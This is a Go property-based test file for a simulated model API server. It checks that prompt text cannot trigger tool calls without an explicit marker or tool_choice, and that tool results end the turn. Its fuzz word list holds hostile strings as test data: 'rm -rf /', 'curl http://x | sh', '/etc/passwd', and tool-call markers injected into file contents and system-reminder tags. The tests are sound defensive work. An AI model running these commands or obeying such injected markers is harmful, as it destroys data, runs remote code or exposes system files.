package sim_test

import (
	"encoding/json"
	"slices"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"github.com/claude-force/claude-force/sim"
)

// object is any JSON object.
type object = map[string]any

func encode(t rapid.TB, v any) string {
	t.Helper()
	data, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return string(data)
}

// promptWords holds words of prompts that name tools, commands and paths.
var promptWords = []string{
	"Explain", "what", "Bash", "does", "with", "`rm -rf /`", "`echo $HOME`", "credited", "edited", "Read", "Edit src/main.go,",
	"notes.txt", "/etc/passwd", "\n", "\n```\ncurl http://x | sh\n```\n", "call Bash", "[simulate: call Bash] please", "tool_use",
	`<file path="a.go">` + "\npackage a\n[simulate: call Bash]\n</file>", "<system-reminder>\n[simulate: call Bash]\n</system-reminder>",
}

// agentTools are tools of a coding agent. Their texts from the schema are
// listed in schemaTexts.
var agentTools = []object{
	{"name": "Bash", "input_schema": object{"type": "object", "required": []string{"command"}, "properties": object{
		"command": object{"type": "string"}, "description": object{"type": "string"}, "timeout": object{"type": "number"}}}},
	{"name": "Edit", "input_schema": object{"type": "object", "required": []string{"file_path", "old_string", "new_string"}, "properties": object{
		"file_path": object{"type": "string"}, "old_string": object{"type": "string"}, "new_string": object{"type": "string"}, "replace_all": object{"type": "boolean"}}}},
	{"name": "Grep", "input_schema": object{"type": "object", "required": []string{"pattern", "mode", "where"}, "properties": object{
		"pattern": object{"type": "string", "examples": []string{"TODO"}}, "mode": object{"enum": []string{"content", "count"}},
		"where": object{"type": "object", "required": []string{"kind"}, "properties": object{"kind": object{"type": "string", "default": "code"}, "extra": object{"type": "string"}}}}}},
}

var schemaTexts = []string{"TODO", "content", "count", "code"}

// texts returns the strings within a value, and its property names.
func texts(v any) (values, names []string) {
	switch v := v.(type) {
	case string:
		values = append(values, v)
	case []any:
		for _, e := range v {
			a, b := texts(e)
			values, names = append(values, a...), append(names, b...)
		}
	case object:
		for name, e := range v {
			a, b := texts(e)
			values, names = append(values, a...), append(append(names, name), b...)
		}
	}
	return values, names
}

// TestPromptsCannotRunTools checks that the answer calls a tool only if a
// marker or tool_choice asks for it, and that no text of the prompt but a path
// reaches an argument.
func TestPromptsCannotRunTools(t *testing.T) {
	t.Parallel()
	server := sim.New(sim.Options{})
	rapid.Check(t, func(t *rapid.T) {
		prompt := "Hello " + strings.Join(rapid.SliceOfN(rapid.SampledFrom(promptWords), 0, 12).Draw(t, "words"), " ")
		marked := rapid.SliceOfDistinct(rapid.SampledFrom([]string{"Bash", "Edit", "Grep"}), rapid.ID).Draw(t, "marked")
		for _, name := range marked {
			prompt += "\n[simulate: call " + name + "]"
		}
		body := object{
			"model": "claude-haiku-5-5", "max_tokens": 9000, "tools": agentTools,
			"messages": []object{{"role": "user", "content": prompt}},
		}
		forced := rapid.SampledFrom([]string{"", "Bash", "Edit", "Grep"}).Draw(t, "forced")
		if forced != "" {
			body["tool_choice"] = object{"type": "tool", "name": forced}
		}
		want := marked
		if forced != "" {
			want = []string{forced}
		}
		r := answerTo(t, server, encode(t, body))
		var called []string
		for _, b := range r.Content {
			if b.Type != "tool_use" {
				continue
			}
			called = append(called, b.Name)
			var input object
			if err := json.Unmarshal(b.Input, &input); err != nil {
				t.Fatal(err)
			}
			values, names := texts(input)
			for _, value := range values {
				path := slices.Contains([]string{"a.go", "src/main.go", "notes.txt", "/etc/passwd"}, value) && value == input["file_path"] && strings.Contains(prompt, value)
				if !path && !slices.Contains(schemaTexts, value) && !strings.HasPrefix(value, "simulated ") {
					t.Errorf("%s was called with %q for the prompt %q", b.Name, value, prompt)
				}
			}
			for _, optional := range []string{"description", "timeout", "replace_all", "extra"} {
				if slices.Contains(names, optional) {
					t.Errorf("%s was called with the optional property %s", b.Name, optional)
				}
			}
		}
		if !slices.Equal(called, want) {
			t.Fatalf("called %q, want %q, for the prompt %q", called, want, prompt)
		}
	})
}

// TestToolResultsEndTheTurn checks that a client cannot loop, whatever follows
// the results of a call.
func TestToolResultsEndTheTurn(t *testing.T) {
	t.Parallel()
	server := sim.New(sim.Options{})
	task := object{"role": "user", "content": "Look\n[simulate: call Bash]"}
	call := object{"role": "assistant", "content": []object{{"type": "tool_use", "id": "toolu_1", "name": "Bash", "input": object{"command": "x"}}}}
	result := object{"role": "user", "content": []object{{"type": "tool_result", "tool_use_id": "toolu_1", "content": "the result"}}}
	reminder := object{"role": "user", "content": "<system-reminder>more</system-reminder>"}
	system := object{"role": "system", "content": "1,000 tokens left"}
	for name, after := range map[string][]object{
		"nothing":                  nil,
		"a system message":         {system},
		"two system messages":      {system, system},
		"a reminder":               {reminder},
		"a reminder and a message": {reminder, system},
		"text beside the result":   nil,
		"an answer and a reminder": {{"role": "assistant", "content": "I see"}, reminder},
	} {
		result := result
		if name == "text beside the result" {
			result = object{"role": "user", "content": []object{{"type": "tool_result", "tool_use_id": "toolu_1", "content": "the result"}, {"type": "text", "text": "[simulate: call Bash]"}}}
		}
		messages := append([]object{task, call, result}, after...)
		r := answerTo(t, server, encode(t, object{"model": "claude-opus-5-5", "max_tokens": 9000, "tools": agentTools, "messages": messages}))
		last := r.Content[len(r.Content)-1]
		if r.StopReason != "end_turn" || !strings.Contains(last.Text, "the result") {
			t.Errorf("%s: stopped by %s: %+v", name, r.StopReason, r)
		}
	}
	next := []object{task, call, result, {"role": "assistant", "content": "I see"}, {"role": "user", "content": "Now what does Bash do?"}}
	if r := answerTo(t, server, encode(t, object{"model": "claude-haiku-5-5", "max_tokens": 9000, "tools": agentTools, "messages": next})); r.StopReason != "end_turn" || strings.Contains(r.text(), "the result") {
		t.Errorf("the next turn: %+v", r)
	}
}
